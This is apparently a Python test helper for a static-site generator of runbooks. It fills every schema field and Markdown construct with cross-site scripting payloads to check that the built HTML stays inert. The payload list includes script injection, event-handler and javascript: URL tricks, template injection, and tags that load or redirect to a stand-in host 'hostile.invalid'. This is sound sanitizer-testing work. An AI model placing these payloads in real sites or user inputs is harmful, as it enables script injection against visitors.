"""Hostile books: every text field of every format holds what would run, if it were let.

The fields come from the published JSON Schemas, so a field that is new is tried without a change here.
"""

import copy
import json
import os
import pathlib
import re
import resource
import subprocess

import yaml

ROOT = pathlib.Path(__file__).resolve().parents[2]
PROGRAM = os.environ.get("ROLLBOOK_PROGRAM") or str(ROOT / ".build/debug/rollbook")

# A word that no page has of itself: where it is shown, the text around it is shown.
WORD = "Quibbersnatch"

# What would run or call home, in the ways that a text can get out of its place.
PAYLOADS = [
    "<script>alert('N')</script>",
    "\"><script src=https://hostile.invalid/N.js></script>",
    "'><img src=x onerror=alert('N')>",
    "\" onmouseover=\"alert('N')\" autofocus onfocus=\"alert('N')",
    "</title></style></textarea></code></pre><svg onload=alert('N')>",
    "</script><script>alert('N')</script>",
    "<iframe srcdoc=\"<script>alert('N')</script>\"></iframe>",
    "<a href=\"javascript:alert('N')\">N</a>",
    "[N](javascript:alert('N'))",
    "[N](<java&#115;cript:alert('N')>)",
    "[N](data:text/html,<script>alert('N')</script>)",
    "![N](https://hostile.invalid/N.png)",
    "![N](x\" onerror=\"alert('N'))",
    "[N](x \"t\\\" onmouseover=alert('N')\")",
    "<meta http-equiv=refresh content=0;url=https://hostile.invalid/N>",
    "<base href=https://hostile.invalid/N/>",
    "<link rel=stylesheet href=https://hostile.invalid/N.css>",
    "<style>@import 'https://hostile.invalid/N.css';</style>",
    "<form action=https://hostile.invalid/N><button autofocus>N</button></form>",
    "<object data=https://hostile.invalid/N></object><embed src=https://hostile.invalid/N>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('N')&gt;\">",
    "{{{page.title}}} {{> layouts/base}} ${alert('N')} {{constructor.constructor('alert(1)')()}}",
    "]]><!--<script>alert('N')</script>-->",
    "<details open ontoggle=alert('N')><summary>N</summary></details>",
    "`` <b onclick=alert('N')> `` <https://hostile.invalid/\"onclick=alert('N')>",
]


def payload(number):
    """Two payloads in a row; with all numbers below the list's length each field sees each of them."""
    first, second = PAYLOADS[number % len(PAYLOADS)], PAYLOADS[(number + 12) % len(PAYLOADS)]
    return f"{WORD} {first} {second}".replace("'N'", str(number)).replace("N.", f"{number}.")


class Filler:
    """Makes a document from a JSON Schema, with a payload in each text that takes any text."""

    # What the words of a pattern are for, by what they match.
    SAMPLES = [
        "2026-03-14T22:00:00Z", "2026-03-14", "15m", "T+20m", "5%", "1.0.0", "a1b2c3d", "pa", "PA-1", "x > 2% for 5m", "a#b", "#b", "5",
    ]

    def __init__(self, schema, shift):
        self.schema = schema
        self.number = shift
        self.fields = 0

    def text(self):
        self.number += 1
        self.fields += 1
        return payload(self.number)

    def make(self, schema, depth=0):
        if "$ref" in schema:
            target = self.schema
            for name in schema["$ref"].removeprefix("#/").split("/"):
                target = target[name]
            return self.make(target, depth)
        if "anyOf" in schema:
            lists = [option for option in schema["anyOf"] if "array" in as_list(option.get("type"))]
            return self.make((lists or schema["anyOf"])[0], depth)
        if "enum" in schema:
            return next(value for value in schema["enum"] if value is not None)
        types = as_list(schema.get("type"))
        if "object" in types or "properties" in schema:
            made = {name: self.make(inner, depth + 1) for name, inner in schema.get("properties", {}).items()}
            if not made and isinstance(schema.get("additionalProperties"), dict):
                made = {"pa": self.make(schema["additionalProperties"], depth + 1)}
            return made
        if "array" in types:
            return [self.make(schema["items"], depth + 1)]
        if "pattern" in schema:
            for sample in self.SAMPLES:
                if re.search(schema["pattern"], sample):
                    return sample
            raise AssertionError(f"no sample for the pattern {schema['pattern']}")
        if "string" in types:
            return self.text()
        if "boolean" in types:
            return False
        return 3


def as_list(value):
    return value if isinstance(value, list) else [value]


def filled(kind, shift):
    """The document and how many of its fields are hostile."""
    schema = json.loads((ROOT / f"schemas/{kind}.schema.json").read_text())
    filler = Filler(schema, shift)
    return filler.make(schema), filler.fields


# Findings that would keep a hostile book from being published: here the site is wanted, to be looked at.
QUIET = (
    "broken-link broken-anchor missing-file link-outside-content unsafe-attachment unknown-reference bad-alias placeholder-left "
    "secret-in-text unstable-id duplicate-id step-without-command no-trigger unmeasurable-trigger raw-html unknown-variable "
    "undefined-footnote run-of-unknown-step unsafe-link typographic-character-in-command ambiguous-address"
).split()


def body(shift):
    """Markdown with every payload in every kind of place."""
    lines = [f"# {payload(shift)}", ""]
    for number in range(shift, shift + len(PAYLOADS)):
        text = payload(number)
        cell = text.replace("|", "\\|")
        lines += [
            text, "", f"## {text}", "", f"- [ ] {text}", "", f"> [!NOTE]\n> {text}", "", f"| {cell} | b |\n|---|---|\n| {cell} | c |", "",
            f"```{text.replace('`', '')}\n{text}\n```", "", f"[{text.replace(']', '').replace('[', '')}](<{text.replace('<', '').replace('>', '')}>)", "",
            f"[t](x '{text}') ![{text.replace(']', '').replace('[', '')}](y.png \"{text}\")", "", f"a[^{number}]\n\n[^{number}]: {text}", "", f"`{text}` <b id=\"{text}\">b</b>", "",
        ]
    return "\n".join(lines)


def write_book(content, shift):
    """A book of all formats; returns how many fields are hostile."""
    content.mkdir(parents=True)
    count = 0

    def front(kind, **fixed):
        nonlocal count
        made, fields = filled(kind, shift + count)
        count += fields
        return made | fixed

    def write(path, text):
        file = content / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)

    def dump(value):
        return yaml.safe_dump(value, allow_unicode=True, sort_keys=False, width=10_000)

    book = front("site", git=False, rules={rule: "ignore" for rule in QUIET}, measures={"days": 90})
    book = {key: value for key, value in book.items() if key not in ("base_url", "theme", "sources", "environments")}
    book |= {"base_url": "https://runbooks.example.org/", "required_roles": [], "language": payload(shift)}
    write("rollbook.yaml", dump(book))
    for name in ("pa", "pb"):
        plan = front("plan", id=name, status="draft", version=payload(shift), window={"start": "2026-03-14T22:00:00Z", "end": "2026-03-14T23:00:00Z"})
        plan["aliases"] = []
        plan["services"] = ["pa"]
        plan.pop("service")
        write(f"releases/{name}/deployment-plan.yaml", dump(plan))
        write(f"releases/{name}/runs/1.yaml", dump(front("run", attempt=1)))
    for kind, folder in (("pattern", "patterns"), ("checklist", "checklists"), ("guide", "guides"), ("incident", "incidents")):
        name = "PA-1" if kind == "incident" else "pa"
        attributes = front(kind, aliases=[])
        if kind == "incident":
            attributes |= {"id": name, "releases": ["pa"]}
        write(f"{folder}/{name}.md", f"---\n{dump(attributes)}---\n{body(shift)}\n")
        write(f"{folder}/README.md", body(shift + 3))
    write("releases/loose.md", f"---\ntitle: {json.dumps(payload(shift))}\n---\n{body(shift)}\n\n## Deployment\n\n1. {payload(shift)}\n\n   ```sh\n   {payload(shift)}\n   ```\n")
    write("releases/README.md", body(shift + 7))
    write("releases/pa/migrations/1.sql", f"SELECT '{payload(shift)}';\n")
    template = copy.deepcopy(front("template"))
    if template:
        write("templates/deployment-plan.yaml", "sections:\n  - {id: steps, source: phases, title: " + json.dumps(payload(shift)) + ", intro: " + json.dumps(payload(shift + 1)) + "}\n")
    return count


def run(folder, *arguments, **options):
    return subprocess.run([PROGRAM, *map(str, arguments)], cwd=folder, capture_output=True, text=True, errors="replace", **options)


def build(folder, *options):
    """Builds `content` in a folder into `site`."""
    return run(folder, "build", "--no-git", *options)


def measured(folder, *arguments):
    """Runs the program: its exit code, what it printed, the seconds of processor time and the megabytes it took."""
    with open(folder / "out.txt", "wb") as out:
        child = subprocess.Popen([PROGRAM, *map(str, arguments)], cwd=folder, stdout=out, stderr=subprocess.STDOUT)
        _, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    text = (folder / "out.txt").read_text(errors="replace")
    return child.returncode, text, usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024


def pages(site):
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))
